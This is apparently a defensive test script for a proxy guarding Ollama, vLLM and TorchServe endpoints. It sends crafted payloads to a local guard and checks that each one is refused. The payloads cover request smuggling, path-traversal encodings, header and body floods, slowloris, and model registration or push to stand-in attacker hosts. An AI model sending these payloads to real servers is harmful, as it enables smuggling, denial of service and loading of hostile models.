#!/usr/bin/env python3
"""Exploit patterns and protocol checks against ward's endpoint guard.

  guard_attacks.py GUARD_PORT METRICS_PORT RECORD_FILE KEY PROFILE

Each refusal case sends raw bytes, checks the status the guard answered, that
the stand-in upstream (tests/py/guard_upstream.py) recorded NOTHING for it,
and that ward_guard_rejected_total{reason=...} grew by exactly one.  The
forwarding cases check what the upstream did receive.  Exit 1 on the first
failure, with the case named.
"""
import os
import re
import socket
import sys
import time

GP, MP, REC, KEY, PROFILE = (int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4],
                             sys.argv[5])
AUTH = b"Authorization: Bearer " + KEY.encode() + b"\r\n"
fails = 0


def metrics():
    s = socket.create_connection(("127.0.0.1", MP), timeout=5)
    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    data = b""
    while True:
        d = s.recv(65536)
        if not d:
            break
        data += d
    s.close()
    out = {}
    for line in data.decode().split("\r\n\r\n", 1)[1].splitlines():
        if line and not line.startswith("#"):
            name, v = line.rsplit(" ", 1)
            out[name] = float(v)
    return out


def rejected(m, reason):
    return m.get('ward_guard_rejected_total{reason="%s"}' % reason, 0)


def recorded():
    return os.path.getsize(REC)


def exchange(raw, timeout=5, chunks=None, delay=0):
    """Send raw (or a list of pieces), return (status, response bytes)."""
    s = socket.create_connection(("127.0.0.1", GP), timeout=timeout)
    try:
        for piece in (raw if isinstance(raw, list) else [raw]):
            try:
                s.sendall(piece)
            except (BrokenPipeError, ConnectionResetError):
                break
            if delay:
                time.sleep(delay)
        data = b""
        while True:
            try:
                d = s.recv(65536)
            except (ConnectionResetError, socket.timeout):
                break
            if not d:
                break
            data += d
            if b"\r\n\r\n" in data and re.search(rb"Content-Length: (\d+)", data):
                hl = data.index(b"\r\n\r\n") + 4
                cl = int(re.search(rb"Content-Length: (\d+)", data).group(1))
                if len(data) >= hl + cl:
                    break
    finally:
        s.close()
    m = re.match(rb"HTTP/1\.1 (\d{3})", data)
    return (int(m.group(1)) if m else 0), data


def fail(name, why):
    global fails
    fails += 1
    print("FAIL %s: %s" % (name, why))


def refused(name, raw, status, reason, **kw):
    before_m, before_r = metrics(), recorded()
    got, data = exchange(raw, **kw)
    time.sleep(0.05)
    after_m, after_r = metrics(), recorded()
    if got != status:
        return fail(name, "status %s, expected %s: %r" % (got, status, data[:200]))
    if after_r != before_r:
        return fail(name, "the upstream received %d bytes" % (after_r - before_r))
    d = rejected(after_m, reason) - rejected(before_m, reason)
    if d != 1:
        return fail(name, "rejected_total{reason=%s} grew by %d" % (reason, d))
    print("ok   %-44s %d %s" % (name, status, reason))


def req(method, path, extra=b"", body=b"", auth=True, version=b"HTTP/1.1"):
    h = b"%s %s %s\r\nHost: guard\r\n" % (method, path, version)
    if auth:
        h += AUTH
    if body:
        h += b"Content-Length: %d\r\n" % len(body)
    return h + extra + b"\r\n" + body


def forwarded(name, raw, status=200, expect=None):
    before = recorded()
    got, data = exchange(raw)
    time.sleep(0.05)
    if got != status:
        return fail(name, "status %s, expected %s: %r" % (got, status, data[:300]))
    if recorded() == before:
        return fail(name, "nothing reached the upstream")
    if expect is not None and not expect(data):
        return fail(name, "unexpected response %r" % data[:400])
    print("ok   %-44s %d forwarded" % (name, got))
    return data


# ---------------------------------------------------------------- the profiles
if PROFILE == "ollama":
    body = b'{"model":"evil","from":"llama3","files":{"x":"sha256:00"}}'
    refused("ollama /api/create with a valid key", req(b"POST", b"/api/create", body=body), 403,
            "route_denied")
    refused("ollama /api/push to an attacker registry",
            req(b"POST", b"/api/push", body=b'{"model":"attacker.example/x/y"}'), 403,
            "route_denied")
    refused("ollama /api/pull", req(b"POST", b"/api/pull", body=b'{"model":"x"}'), 403,
            "route_denied")
    refused("ollama DELETE /api/delete", req(b"DELETE", b"/api/delete", body=b'{"model":"x"}'),
            403, "route_denied")
    refused("ollama /api/copy", req(b"POST", b"/api/copy", body=b'{"source":"a"}'), 403,
            "route_denied")
    refused("ollama blob upload", req(b"POST", b"/api/blobs/sha256:abc", body=b"x"), 403,
            "route_denied")
    refused("ollama create, case variant", req(b"POST", b"/API/create", body=b"{}"), 403,
            "route_denied")
    refused("ollama create, encoded letter", req(b"POST", b"/api/%63reate", body=b"{}"), 403,
            "route_denied")
    forwarded("ollama /api/generate", req(b"POST", b"/api/generate", body=b'{"model":"m"}'))
    forwarded("ollama /api/tags", req(b"GET", b"/api/tags"))
    refused("ollama unauthenticated generate", req(b"POST", b"/api/generate", body=b"{}",
                                                   auth=False), 401, "auth_missing")
elif PROFILE == "vllm":
    refused("vllm /invocations (unguarded prefix)",
            req(b"POST", b"/invocations", body=b'{"prompt":"x"}'), 403, "route_denied")
    refused("vllm /tokenize", req(b"POST", b"/tokenize", body=b'{"prompt":"x"}'), 403,
            "route_denied")
    refused("vllm /tokenize unauthenticated", req(b"POST", b"/tokenize", body=b"{}",
                                                  auth=False), 403, "route_denied")
    refused("vllm /pooling", req(b"POST", b"/pooling", body=b"{}"), 403, "route_denied")
    refused("vllm /v1/load_lora_adapter",
            req(b"POST", b"/v1/load_lora_adapter", body=b'{"lora_path":"/tmp/x"}'), 403,
            "route_denied")
    refused("vllm /v1/chat/completions without key",
            req(b"POST", b"/v1/chat/completions", body=b"{}", auth=False), 401, "auth_missing")
    refused("vllm bad key",
            req(b"POST", b"/v1/chat/completions", body=b"{}", auth=False,
                extra=b"Authorization: Bearer sk-wrong-key-000000000000\r\n"), 401,
            "auth_invalid")
    refused("vllm two credentials",
            req(b"POST", b"/v1/chat/completions", body=b"{}",
                extra=b"X-Api-Key: " + KEY.encode() + b"\r\n"), 401, "auth_malformed")
    refused("vllm Basic scheme",
            req(b"GET", b"/v1/models", auth=False,
                extra=b"Authorization: Basic dXNlcjpwYXNz\r\n"), 401, "auth_malformed")
    forwarded("vllm chat completions (X-Api-Key)",
              req(b"POST", b"/v1/chat/completions", body=b'{"messages":[]}', auth=False,
                  extra=b"X-Api-Key: " + KEY.encode() + b"\r\n"),
              expect=lambda d: b"x-api-key" not in d.lower() and b'"x-ward-key-id": "' in d)
    forwarded("vllm models; spoofed headers replaced",
              req(b"GET", b"/v1/models",
                  extra=b"X-Ward-Key-Id: admin\r\nX-Forwarded-For: 10.9.9.9\r\n"),
              expect=lambda d: b"admin" not in d and b"10.9.9.9" not in d and
              b"authorization" not in d.lower())
elif PROFILE == "torchserve":
    refused("torchserve register model (management on inference port)",
            req(b"POST", b"/models?url=http://attacker/evil.mar&initial_workers=1"), 403,
            "route_denied")
    refused("torchserve DELETE /models/x", req(b"DELETE", b"/models/resnet"), 403,
            "route_denied")
    refused("torchserve workflows", req(b"POST", b"/workflows?url=x"), 403, "route_denied")
    # path traversal in the model name, every spelling
    for name, path in [
        ("dot-dot segment", b"/predictions/../models"),
        ("encoded dots", b"/predictions/%2e%2e/models"),
        ("mixed dots", b"/predictions/.%2E/models"),
        ("encoded slash", b"/predictions/..%2fmodels"),
        ("encoded slash, model", b"/predictions/resnet%2F..%2F..%2Fmodels"),
        ("double encoding", b"/predictions/%252e%252e%252fmodels"),
        ("backslash", b"/predictions/resnet\\..\\models"),
        ("encoded backslash", b"/predictions/resnet%5c..%5cmodels"),
        ("overlong UTF-8 dot", b"/predictions/%c0%ae%c0%ae/models"),
        ("path parameter", b"/predictions/resnet;/../../models"),
        ("empty segment", b"/predictions//models"),
        ("trailing dot segment", b"/predictions/resnet/."),
        ("NUL byte", b"/predictions/resnet%00.mar"),
    ]:
        refused("traversal: " + name, req(b"POST", path, body=b"x"), 400, "path_ambiguous")
    forwarded("torchserve prediction", req(b"POST", b"/predictions/resnet", body=b"img"),
              expect=lambda d: b'"path": "/predictions/resnet"' in d)
    forwarded("torchserve prediction, encoded letters forwarded canonical",
              req(b"POST", b"/predictions/res%6Eet/1.0", body=b"img"),
              expect=lambda d: b'"path": "/predictions/resnet/1.0"' in d)
    forwarded("torchserve KServe v1 predict", req(b"POST", b"/v1/models/resnet:predict",
                                                  body=b"{}"))

# ---------------------------------------------------------------- every profile
GOOD = {"ollama": (b"POST", b"/api/generate"), "vllm": (b"POST", b"/v1/chat/completions"),
        "torchserve": (b"POST", b"/predictions/resnet")}[PROFILE]
M, P = GOOD

# request smuggling and framing
refused("CL.TE conflict", req(M, P, extra=b"Transfer-Encoding: chunked\r\n",
                             body=b"0\r\n\r\nGET /models HTTP/1.1\r\nHost: x\r\n\r\n"), 400,
        "cl_te_conflict")
refused("TE.CL conflict", b"%s %s HTTP/1.1\r\nHost: g\r\n%sTransfer-Encoding: chunked\r\n"
        b"Content-Length: 4\r\n\r\n5c\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n" % (M, P, AUTH), 400,
        "cl_te_conflict")
refused("duplicate Content-Length (equal)",
        req(M, P, extra=b"Content-Length: 3\r\n", body=b"abc"), 400, "duplicate_content_length")
refused("duplicate Content-Length (different)",
        req(M, P, extra=b"Content-Length: 30\r\n", body=b"abc"), 400,
        "duplicate_content_length")
refused("Content-Length list", b"%s %s HTTP/1.1\r\nHost: g\r\n%sContent-Length: 3, 3\r\n\r\nabc"
        % (M, P, AUTH), 400, "bad_content_length")
refused("Content-Length sign", b"%s %s HTTP/1.1\r\nHost: g\r\n%sContent-Length: +3\r\n\r\nabc"
        % (M, P, AUTH), 400, "bad_content_length")
refused("Content-Length hex", b"%s %s HTTP/1.1\r\nHost: g\r\n%sContent-Length: 0x3\r\n\r\nabc"
        % (M, P, AUTH), 400, "bad_content_length")
refused("Content_Length underscore", b"%s %s HTTP/1.1\r\nHost: g\r\n%sContent_Length: 3\r\n\r\n"
        b"abc" % (M, P, AUTH), 400, "bad_header")
for name, te in [("TE chunked, identity", b"chunked, identity"), ("TE identity", b"identity"),
                 ("TE xchunked", b"xchunked"), ("TE gzip, chunked", b"gzip, chunked"),
                 ("TE chunked;q=1", b"chunked;q=1")]:
    refused(name, b"%s %s HTTP/1.1\r\nHost: g\r\n%sTransfer-Encoding: %s\r\n\r\n0\r\n\r\n"
            % (M, P, AUTH, te), 501, "transfer_encoding")
refused("TE twice", b"%s %s HTTP/1.1\r\nHost: g\r\n%sTransfer-Encoding: chunked\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (M, P, AUTH), 501, "transfer_encoding")
refused("TE in HTTP/1.0", b"%s %s HTTP/1.0\r\nHost: g\r\n%sTransfer-Encoding: chunked\r\n\r\n"
        b"0\r\n\r\n" % (M, P, AUTH), 501, "transfer_encoding")
refused("space before colon", b"%s %s HTTP/1.1\r\nHost: g\r\n%sTransfer-Encoding : chunked\r\n"
        b"\r\n0\r\n\r\n" % (M, P, AUTH), 400, "bad_header")
refused("vertical tab in name", b"%s %s HTTP/1.1\r\nHost: g\r\n%s\x0bTransfer-Encoding: chunked"
        b"\r\n\r\n0\r\n\r\n" % (M, P, AUTH), 400, "bad_header")
refused("obs-fold", b"%s %s HTTP/1.1\r\nHost: g\r\n%sX-Note: a\r\n Transfer-Encoding: chunked\r\n"
        b"\r\n0\r\n\r\n" % (M, P, AUTH), 400, "obs_fold")
refused("bare LF", b"%s %s HTTP/1.1\nHost: g\n%s\n" % (M, P, AUTH.strip()), 400, "bare_lf")
refused("bare LF in one header", b"%s %s HTTP/1.1\r\nHost: g\nX: y\r\n%s\r\n" % (M, P, AUTH),
        400, "bare_lf")
refused("bare CR", b"%s %s HTTP/1.1\r\nHost: g\rX: y\r\n%s\r\n" % (M, P, AUTH), 400, "bare_cr")
refused("chunk extension", req(M, P, extra=b"Transfer-Encoding: chunked\r\n") +
        b"3;ext=1\r\nabc\r\n0\r\n\r\n", 400, "bad_chunk")
refused("chunk size overflow", req(M, P, extra=b"Transfer-Encoding: chunked\r\n") +
        b"10000000000000001\r\nabc\r\n0\r\n\r\n", 400, "bad_chunk")
refused("chunk data longer than its size", req(M, P, extra=b"Transfer-Encoding: chunked\r\n") +
        b"3\r\nabcdef\r\n0\r\n\r\n", 400, "bad_chunk")
refused("chunked trailer", req(M, P, extra=b"Transfer-Encoding: chunked\r\n") +
        b"3\r\nabc\r\n0\r\nX-Smuggle: 1\r\n\r\n", 400, "bad_chunk")
refused("two Host headers", b"%s %s HTTP/1.1\r\nHost: a\r\nHost: b\r\n%s\r\n" % (M, P, AUTH),
        400, "host")
refused("no Host in HTTP/1.1", b"%s %s HTTP/1.1\r\n%s\r\n" % (M, P, AUTH), 400, "host")
refused("absolute-form target", b"%s http://internal%s HTTP/1.1\r\nHost: g\r\n%s\r\n"
        % (M, P, AUTH), 400, "bad_target")
refused("HTTP/1.2", b"%s %s HTTP/1.2\r\nHost: g\r\n%s\r\n" % (M, P, AUTH), 505, "http_version")
refused("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 505, "http_version")
refused("h2c upgrade", req(M, P, extra=b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                           b"HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n"), 400, "upgrade")
refused("websocket upgrade", req(b"GET", P, extra=b"Upgrade: websocket\r\nConnection: Upgrade\r\n"),
        400, "upgrade")
refused("Expect other than 100-continue", req(M, P, extra=b"Expect: 200-ok\r\n", body=b"x"), 417,
        "expect")
forwarded("Connection naming Content-Length keeps the framing",
          req(M, P, extra=b"Connection: Content-Length, Host\r\n", body=b"abc"),
          expect=lambda d: b'"body_bytes": 3' in d)

# caps
refused("1 GB body (Content-Length)", [req(M, P, extra=b"Content-Length: 1073741824\r\n")
                                       .replace(b"\r\n\r\n", b"\r\n\r\n", 1), b"x" * 65536], 413,
        "body_too_large")
refused("1 GB body (one chunk)", req(M, P, extra=b"Transfer-Encoding: chunked\r\n") +
        b"40000000\r\n" + b"x" * 4096, 413, "body_too_large")
refused("thousands of tiny chunks", req(M, P, extra=b"Transfer-Encoding: chunked\r\n") +
        b"1\r\nx\r\n" * 5000 + b"0\r\n\r\n", 413, "too_many_chunks")
refused("header flood (count)", b"%s %s HTTP/1.1\r\nHost: g\r\n%s" % (M, P, AUTH) +
        b"".join(b"X-F%d: v\r\n" % i for i in range(1000)) + b"\r\n", 431, "too_many_headers")
refused("header flood (one huge header)", b"%s %s HTTP/1.1\r\nHost: g\r\n%sX-Big: %s\r\n\r\n"
        % (M, P, AUTH, b"a" * 100000), 431, "header_too_large")
refused("method not in route", req(b"PUT", P, body=b"x"), 403, "route_denied")
refused("TRACE", req(b"TRACE", P), 403, "route_denied")

# slowloris: partial heads trickled in are cut off at the request timeout
before_m, before_r = metrics(), recorded()
socks = []
for i in range(40):
    s = socket.create_connection(("127.0.0.1", GP))
    s.sendall(b"%s %s HTTP/1.1\r\nHost: g\r\n" % (M, P))
    socks.append(s)
t0 = time.time()
ok = forwarded("a real request during slowloris", req(M, P, body=b"{}"))
while time.time() - t0 < 3.0:
    for s in socks:
        try:
            s.sendall(b"X-a: b\r\n")
        except OSError:
            pass
    time.sleep(0.3)
answers = 0
for s in socks:
    s.settimeout(2)
    try:
        if s.recv(100).startswith(b"HTTP/1.1 408"):
            answers += 1
    except OSError:
        pass
    s.close()
time.sleep(0.1)
after_m = metrics()
d = rejected(after_m, "request_timeout") - rejected(before_m, "request_timeout")
if answers != 40 or d != 40:
    fail("slowloris", "%d of 40 got 408, request_timeout grew by %d" % (answers, d))
else:
    print("ok   %-44s 408 x40 request_timeout" % "slowloris (40 trickling heads)")

# forwarding: keep-alive, pipelining, chunked passed unchanged, 100-continue, SSE
s = socket.create_connection(("127.0.0.1", GP), timeout=5)
two = req(M, P, body=b"{}") + req(M, P, body=b"{}")
s.sendall(two)
data = b""
while data.count(b"HTTP/1.1 200") < 2:
    d = s.recv(65536)
    if not d:
        break
    data += d
s.close()
if data.count(b"HTTP/1.1 200") != 2:
    fail("pipelined keep-alive", repr(data[:300]))
else:
    print("ok   %-44s 2 responses on one connection" % "pipelined keep-alive")

before = recorded()
body = b"5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n"
forwarded("chunked request body", req(M, P, extra=b"Transfer-Encoding: chunked\r\n") + body,
          expect=lambda d: b'"body_bytes": 11' in d)
with open(REC, "rb") as f:
    f.seek(before)
    got = f.read()
if not got.endswith(body):
    fail("chunked body unchanged", "upstream got %r" % got[-80:])
else:
    print("ok   %-44s byte for byte" % "chunked body forwarded unchanged")

s = socket.create_connection(("127.0.0.1", GP), timeout=5)
s.sendall(req(M, P, extra=b"Expect: 100-continue\r\nContent-Length: 2\r\n"))
first = s.recv(100)
s.sendall(b"{}")
rest = b""
while b'"body_bytes": 2' not in rest:
    d = s.recv(65536)
    if not d:
        break
    rest += d
s.close()
if not first.startswith(b"HTTP/1.1 100 Continue") or b"200 OK" not in rest:
    fail("100-continue", "%r / %r" % (first, rest[:100]))
else:
    print("ok   %-44s 100 then 200" % "Expect: 100-continue")

# Server-Sent Events: every event is passed on when it arrives
s = socket.create_connection(("127.0.0.1", GP), timeout=5)
t0 = time.time()
s.sendall(req(b"GET", b"/sse"))
buf, times = b"", []
while len(times) < 3:
    d = s.recv(65536)
    if not d:
        break
    buf += d
    while buf.count(b"data: ") > len(times):
        times.append(time.time() - t0)
s.close()
if len(times) != 3 or times[0] > 0.2 or times[1] < 0.2:
    fail("SSE streamed", "event arrival times %r" % times)
else:
    print("ok   %-44s first event after %.1f ms" % ("SSE streamed event by event", times[0] * 1e3))

print("%d failure(s)" % fails)
sys.exit(1 if fails else 0)
